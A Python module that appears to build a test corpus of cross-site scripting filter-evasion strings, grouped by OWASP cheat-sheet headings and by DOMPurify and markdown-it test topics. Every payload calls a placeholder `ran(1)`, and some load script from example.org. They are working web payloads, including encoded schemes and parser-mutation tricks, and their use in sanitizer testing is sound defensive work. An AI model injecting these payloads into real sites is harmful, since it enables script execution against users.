"""Ways around filters, by the names under which collections of them keep these.

Each line here is our own and calls `ran`; the names say where to look for the story of it.
"""

_CODES = [ord(sign) for sign in "javascript:ran(1)"]
_DECIMAL = "".join(f"&#{code}" for code in _CODES)
_PADDED = "".join(f"&#{code:07}" for code in _CODES)
_HEX = "".join(f"&#x{code:x}" for code in _CODES)
_CLOSED = "".join(f"&#x{code:X};" for code in _CODES)

# The headings of OWASP's "XSS Filter Evasion Cheat Sheet".
OWASP = {
    "basic": ["<SCRIPT SRC=//example.org/x.js></SCRIPT>"],
    "locator, for many places at once": [
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='ran(1)//'>",
        "'\"`><script>ran(1)</script>",
        "';ran(1)//\";ran(1)//--></script>\">'><script>ran(1)</script>",
    ],
    "malformed A": ["<a onmouseover=ran(1)>x</a>", '\\<a onmouseover="ran(1)"\\>x\\</a\\>'],
    "malformed IMG": ['<IMG """><SCRIPT>ran(1)</SCRIPT>"\\>'],
    "fromCharCode": ["<IMG SRC=javascript:eval(String.fromCharCode(114,97,110,40,49,41))>"],
    "SRC past its check": ['<IMG SRC=# onmouseover="ran(1)">'],
    "SRC empty": ['<IMG SRC= onmouseover="ran(1)">'],
    "SRC left out": ['<IMG onmouseover="ran(1)">'],
    "onerror": ['<IMG SRC=/ onerror="ran(1)"></img>', f'<img src=x onerror="{_PADDED}">'],
    "decimal references": [f"<IMG SRC={_DECIMAL.replace('&', ';&')[1:]};>"],
    "without semicolons": [f"<IMG SRC={_DECIMAL}>", f"<IMG SRC={_PADDED}>", f"<IMG SRC={_HEX}>"],
    "tab, new line and return within": [
        f'<IMG SRC="jav{gap}ascript:ran(1);">'
        for gap in ("\t", "&#x09;", "&#x0A;", "&#x0D;", "&Tab;", "&NewLine;")
    ],
    "signs before the scheme": ['<IMG SRC=" &#14;  javascript:ran(1);">'],
    "neither letter nor digit": [
        '<SCRIPT/XSS SRC="//example.org/x.js"></SCRIPT>',
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=ran(1)>",
        '<SCRIPT/SRC="//example.org/x.js"></SCRIPT>',
    ],
    "more brackets": ["<<SCRIPT>ran(1);//\\<</SCRIPT>", "<iframe src=//example.org/x.html <"],
    "no closing tag": ["<SCRIPT SRC=//example.org/x.js?< B >", "<SCRIPT SRC=//example.org/.j>"],
    "half open": ['<IMG SRC="`<javascript:ran(1)>`"', "<IMG SRC=\"javascript:ran('1')\""],
    "escaping escapes": ['\\";ran(1);//', "</script><script>ran(1);</script>"],
    "end of the title": ["</TITLE><SCRIPT>ran(1);</SCRIPT>"],
    "old attributes": [
        '<INPUT TYPE="IMAGE" SRC="javascript:ran(1);">',
        '<BODY BACKGROUND="javascript:ran(1)">',
        '<IMG DYNSRC="javascript:ran(1)">',
        '<IMG LOWSRC="javascript:ran(1)">',
        '<BGSOUND SRC="javascript:ran(1);">',
        '<TABLE BACKGROUND="javascript:ran(1)"><TD BACKGROUND="javascript:ran(1)">',
        '<BR SIZE="&{ran(1)}">',
        '<LAYER SRC="//example.org/x.html"></LAYER>',
    ],
    "lists and other styles": [
        '<STYLE>li {list-style-image: url("javascript:ran(1)");}</STYLE><UL><LI>x</br>',
        '<LINK REL="stylesheet" HREF="javascript:ran(1);">',
        '<META HTTP-EQUIV="Link" Content="<//example.org/x.css>; REL=stylesheet">',
        '<DIV STYLE="width: expression(ran(1));">',
        '<IMG STYLE="x:expr/**/ession(ran(1))">',
        '<STYLE TYPE="text/javascript">ran(1);</STYLE>',
        '<STYLE>.x{background-image:url("javascript:ran(1)");}</STYLE><A CLASS=x></A>',
        '<XSS STYLE="behavior: url(x.htc);">',
        "¼script¾ran(1)¼/script¾",
    ],
    "old schemes": ["<IMG SRC='vbscript:ran(1)'>", '<IMG SRC="livescript:ran(1)">'],
    "refresh": [
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:ran(1);">',
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:ran(1);">',
    ],
    "frames": [
        '<FRAMESET><FRAME SRC="javascript:parent.ran(1);"></FRAMESET>',
        "<IFRAME SRC=# onmouseover=ran(1)></IFRAME>",
    ],
    "conditional comment": ["<!--[if gte IE 4]><SCRIPT>ran(1);</SCRIPT><![endif]-->"],
    "data of XML": [
        '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:ran(1);">]]></C></X></XML>',
        '<HTML xmlns:xss><?import namespace="xss" implementation="x.htc"><xss:xss>x</xss:xss>',
        '<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">ran(1)'
        "</html:script>",
    ],
    "quotes in a tag": [
        '<SCRIPT a=">" SRC="//example.org/x.js"></SCRIPT>',
        '<SCRIPT a=`>` SRC="//example.org/x.js"></SCRIPT>',
        '<SCRIPT "a=\'>\'" SRC="//example.org/x.js"></SCRIPT>',
    ],
    "addresses in disguise": [
        "<A HREF=//%65%78%61%6d%70%6c%65.org onclick=ran(1)>x</A>",
        "<A HREF=http://1113982867/ onclick=ran(1)>x</A>",
        '<A HREF="h\ntt  p://6\t6.000146.0x7.147/" onclick=ran(1)>x</A>',
    ],
    "templates of strings": ["Set.constructor`ran\\x281\\x29```", "${`${ran(1)}`}"],
}

# What DOMPurify's tests are about.
DOMPURIFY = {
    "clobbering of names": [
        f"<form onsubmit=ran(1)><input onfocus=ran(1) autofocus name={name}>x</form>"
        for name in ("attributes", "children", "nodeName", "parentNode", "removeChild")
    ]
    + [
        f"<img src=x name={name} onerror=ran(1)>"
        for name in ("cookie", "createElement", "location")
    ],
    "spaces of Unicode before a scheme": [
        f"<a href='{space}javascript:ran(1)'>x</a>"
        for space in ("\u2028", "\u2029", "\u00a0", "&#x1680;", "&#x2003;", "&#x3000;", "&#xFEFF;")
    ],
    "control characters in a scheme": [
        "<a href='&#1;java&#3;script:ran(1)'>x</a>",
        "<a href='&#x1F;javascript:ran(1)'>x</a>",
    ],
    "text that becomes a tag when it is read again": [
        "<listing>&lt;img onerror=ran(1) src=x&gt;</listing>",
        "<img src=x id/=' onerror=ran(1)//'>",
        "<textarea>x</textarea><!--</textarea><img src=x onerror=ran(1)>-->",
        "<noscript><!-- </noscript><img src=x onerror=ran(1) --></noscript>",
        '<noscript><a alt="</noscript><img src=x onerror=ran(1)>"></noscript>',
        "<xmp><p title='</xmp><img src=x onerror=ran(1)>'>",
        "<noembed><p title='</noembed><img src=x onerror=ran(1)>'>",
        "<option><style></option></select><img src=x onerror=ran(1)></style>",
        "<b><style><style/><img src=x onerror=ran(1)>",
        "<select><template><style><!--</style><a rel='--></style><img src=x onerror=ran(1)>'>",
    ],
    "from one kind of markup into another": [
        "<math><annotation-xml encoding=text/html><img src=x onerror=ran(1)>",
        "<math><mi><mglyph><style><!--</style><img title='--><img src=x onerror=ran(1)>'>",
        "<svg></p><style><a id='</style><img src=x onerror=ran(1)>'>",
        "<svg><style><img src=x onerror=ran(1)></style></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.ran(1)</script>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
        "<svg><desc><template><img src=x onerror=ran(1)></template></desc></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:ran(1)><a id=x>x</a>",
        "<svg><title><style>{x:'</title><img src=x onerror=ran(1)>'}</style>",
    ],
    "templates within templates": [
        "<template><s><template><s><img src=x onerror=ran(1)></s></template></s></template>",
        "<div><template shadowrootmode=open><img src=x onerror=ran(1)></template></div>",
    ],
    "elements of one's own": [
        "<x-a is=x-a onclick=ran(1)>x</x-a>",
        '<button is="x-b" onclick="ran(1)">x</button>',
    ],
    "expressions of frameworks": [
        "{{ran(1)}}",
        "${ran(1)}",
        "<%= ran(1) %>",
        "<b>{{{</b><i>}}}ran(1)</i>",
        "<div v-html=\"''.constructor.constructor('ran(1)')()\">x</div>",
        "<div ng-app>{{'a'.constructor.prototype.charAt=[].join;$eval('ran(1)')}}</div>",
        "<div x-data x-init='ran(1)'>x</div>",
    ],
    "data addresses": [
        "<a href='data:text/html,<script>ran(1)</script>'>x</a>",
        "<iframe src='data:text/html,<script>parent.ran(1)</script>'>",
        "<object data='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=ran(1)>'>",
    ],
}

# What markdown-it's tests are about.
MARKDOWN_IT = {
    "schemes of links": [
        f"[x]({scheme}:ran(1))" for scheme in ("javascript", "JAVASCRIPT", "VBSCRIPT", "file")
    ],
    "references in an address": [
        "[x](&#34;&#62;&#60;script&#62;ran&#40;1&#41;&#60;/script&#62;)",
        "[x](&#74;avascript:ran(1))",
        "[x](&#x26;#74;avascript:ran(1))",
        "[x](\\&#74;avascript:ran(1))",
        "[x](javascript&#x3A;ran(1))",
        f"[x]({_CLOSED})",
        f"<{_CLOSED}>",
        "<javascript&#x3A;ran(1)>",
        "javascript&#x3A;ran(1)",
    ],
    "address in brackets": ["[x](<javascript:ran(1)>)", "[x](< javascript:ran(1)>)"],
    "pictures": [
        "![x](javascript:ran(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKDEpPg==)",
        "![![x](javascript:ran(1))](javascript:ran(1))",
        '![" onerror="ran(1)](https://example.org/x)',
    ],
    "definitions": ["[t]: javascript:ran(1)\n\n[t]", "[t]: <javascript:ran(1)> 'x'\n\n[x][t]"],
    "language of a fence": [
        '```js&#32;"onclick=ran(1)\nx\n```',
        '```"><img/src=x/onerror=ran(1)>\nx\n```',
        "```js&#x0C;class\nx\n```",
    ],
    "alignment of a table": ['|x|\n|:-:|" onclick=ran(1)\n|x|'],
    "start of a list": ['999999999. x" onclick="ran(1)'],
}

TEXTS = [
    text for names in (OWASP, DOMPURIFY, MARKDOWN_IT) for texts in names.values() for text in texts
]
